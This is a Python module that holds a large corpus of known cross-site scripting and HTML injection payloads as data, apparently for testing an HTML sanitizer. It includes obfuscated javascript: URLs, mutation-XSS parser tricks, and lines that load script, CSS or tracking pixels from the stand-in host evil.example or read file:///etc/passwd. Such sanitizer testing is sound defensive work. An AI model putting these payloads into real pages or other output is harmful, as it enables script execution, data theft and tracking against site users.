# ruff: noqa: E501 - data, which is clearer unbroken
"""Known attacks on whoever shows HTML, of the classes that filter evasion is sorted by; as data, one a line."""

from __future__ import annotations

from typing import Final

_EVENT_NAMES: Final = """
onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforetoggle
onbeforeunload onblur oncanplay onchange onclick onclose oncontextmenu oncopy oncuechange oncut ondblclick ondrag
ondrop ondurationchange onended onerror onfocus onfocusin onformdata onfullscreenchange onhashchange oninput oninvalid
onkeydown onkeypress onload onloadedmetadata onloadstart onmessage onmousedown onmousemove onmouseover onmousewheel
onpageshow onpaste onplay onpointerdown onpointerrawupdate onpopstate onprogress onratechange onreset onresize
onscroll onscrollend onsearch onseeked onselect onsubmit ontimeupdate ontoggle ontouchstart ontransitionend onunload
onvolumechange onwaiting onwebkitanimationend onwheel
"""
_TAGS: Final = (
    "img src=x",
    "a href=#",
    "p",
    "div",
    "td",
    "b",
    "li",
    "video src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
)
_JAVASCRIPT: Final = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java\rscript:alert(1)", "java&#x09;script:alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript:&#97;lert(1)", "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)", "&#1;javascript:alert(1)", "&#14; javascript:alert(1)", "javascript\x00:alert(1)",
    "java\x00script:alert(1)", "javascript://x%0aalert(1)", "javascript:/*--></title>*/alert(1)", "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)", "jar:javascript:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)",
    "mocha:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x", "data:image/svg+xml,<svg onload=alert(1)>", "data:application/xhtml+xml,x", "blob:https://x/1",
    "file:///etc/passwd", "filesystem:https://x/1", "about:blank", "ms-its:x", "res://x", "chrome://x", "\u00a0javascript:alert(1)",
    "\u2028javascript:alert(1)", "\ufeffjavascript:alert(1)", "ｊavascript:alert(1)", "javaſcript:alert(1)",
]  # fmt: skip
_CARRIERS: Final = (
    '<a href="{}">x</a>', '<img src="{}" alt=x>', '<iframe src="{}">x</iframe>', '<form action="{}"><button>x</button></form>',
)  # fmt: skip
_OTHERS: Final = [
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<script/xss src=x></script>",
    "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>",
    "<script>alert(1)", "</script><script>alert(1)</script>", "<script type=module>import 'x'</script>", "<script x=>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>", "<script\x00>alert(1)</script>", "<\x00script>alert(1)</script>", "<script\x0b>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>", "<style><img title='</style><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<iframe><img title='</iframe><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>", "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<?xml-stylesheet href='javascript:alert(1)'?>", "<? foo='><script>alert(1)</script>'>", "<% foo><x foo='%><script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><style><img/src=x onerror=alert(1)></style></svg>",
    "<math></p><style><!--</style><img src/onerror=alert(1)>--></style></math>", "<svg><desc><p><style><img src=x onerror=alert(1)></style></desc></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>", "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><image href='https://evil.example/t.png'/></svg>", "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#https://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<b style='width:expression(alert(1))'>x</b>", "<p style='background:url(https://evil.example/t)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>", "<p style='-moz-binding:url(x)'>x</p>", "<p style='position:fixed;inset:0'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>", "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=preload as=image href=https://evil.example/t>",
    "<link rel=dns-prefetch href=//evil.example>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<meta http-equiv=Set-Cookie content='a=b'>",
    "<base href='javascript:/a/+alert(1)//'>", "<base href=https://evil.example/>", "<base target='<script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>", "<object classid=clsid:x><param name=url value=javascript:alert(1)></object>",
    "<embed src='data:image/svg+xml;base64,PHN2Zz4='>", "<embed code=https://evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x.class>x</applet>", "<frameset><frame src=javascript:alert(1)></frameset>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example></iframe>", "<portal src=https://evil.example>", "<fencedframe src=x>", "<ilayer src=x></ilayer>",
    "<bgsound src=javascript:alert(1)>", "<audio src=https://evil.example/a autoplay>", "<video poster=https://evil.example/t>",
    "<video><source onerror=alert(1)></video>", "<picture><source srcset=https://evil.example/t><img src=x></picture>",
    "<img srcset='https://evil.example/t 1x' alt=x>", "<img lowsrc=javascript:alert(1) alt=x>", "<img dynsrc=javascript:alert(1) alt=x>",
    "<img src=https://evil.example/pixel.gif width=1 height=1 alt=x>", "<img src=//evil.example/t alt=x>", "<img src='/t' alt=x>",
    "<img src=`javascript:alert(1)` alt=x>", "<img \"\"\"><script>alert(1)</script>\">", "<img src='x' / onerror=alert(1) alt=x>",
    "<img/src='x'/onerror='alert(1)'>", "<img src=x onerror\n=alert(1)>", "<img src=x onerror\x0b=alert(1)>", "<img src=x\x0conerror=alert(1)>",
    "<img src=x one&#114;ror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>", "<img src=x:x onerror=alert`1`>", "<image src=x onerror=alert(1)>",
    "<table background=https://evil.example/t><tr><td background=javascript:alert(1)>x</table>", "<body background=javascript:alert(1)>x</body>",
    "<input type=image src=javascript:alert(1)>", "<input formaction=javascript:alert(1) type=submit>", "<button formaction=javascript:alert(1)>x</button>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1) type=submit>",
    "<select><iframe src=javascript:alert(1)></select>", "<keygen autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)>x</dialog>", "<template><img src=x onerror=alert(1)></template>", "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<custom-element onclick=alert(1)>x</custom-element>", "<x is=y onclick=alert(1)>x</x>", "<p id=location name=cookie>x</p>",
    "<a id=defaultView name=x href=https://x>x</a>", "<form name=body>x</form>", "<img name=getElementById src=x alt=x>",
    "<a href=https://x target=_blank rel=opener ping=https://evil.example>x</a>", "<a href=https://x download>x</a>",
    "<a href='https://x' style=position:fixed>x</a>", "<p class='x' id='y' data-x='z' slot=a part=b>x</p>", "<p contenteditable onbeforeinput=alert(1)>x</p>",
    "<p popover id=p>x</p><button popovertarget=p onbeforetoggle=alert(1)>", "<a href=\"https://x\" onclick=\"alert(1)\"href='javascript:alert(1)'>x</a>",
    "<a href='https://x\"onclick=alert(1)'>x</a>", "<a href=\"https://x' onclick='alert(1)\">x</a>", "<a href=https://x?a=<script>alert(1)</script>>x</a>",
    "<p title=\"&quot;><script>alert(1)</script>\">x</p>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u226escript\u226falert(1)", "＜script＞alert(1)＜/script＞", "<p>" * 3000 + "<script>alert(1)</script>", "<b><i>" * 800 + "<img src=x onerror=alert(1)>",
    "<a" + " x=y" * 2000 + " onclick=alert(1)>x</a>", "<p>x<p>y</b></i></p></div></table><td onclick=alert(1)>z", "<table><a href=javascript:alert(1)>x<td>y</table>",
    "<p>\ud83d</p><script>alert(1)</script>", "<a href=\"javascript:alert(1)\" <b>x</a>", "<a href=//evil.example>x</a>", "<a href=\\\\evil.example>x</a>",
    "<a href='https:evil.example'>x</a>", "<a href=https://user:pass@evil.example>x</a>", "<a href='tel:*#06#'>x</a>", "<a href='mailto:a?attach=/etc/passwd'>x</a>",
    "<attribute key=\"x\" default=\"<script>alert(1)</script>\"/>", "<img src=\"attachment:x\" onerror=alert(1) alt=x>", "<a href='attachment:\"><script>'>x</a>",
]  # fmt: skip


def attacks() -> list[str]:
    """All of them."""
    events = [f"<{_TAGS[number % len(_TAGS)]} {event}=alert(1)>x" for number, event in enumerate(_EVENT_NAMES.split())]
    schemes = [
        carrier.format(url)
        for number, url in enumerate(_JAVASCRIPT)
        for carrier in (_CARRIERS[0], _CARRIERS[1 + number % 3])
    ]
    return [*_OTHERS, *events, *schemes]
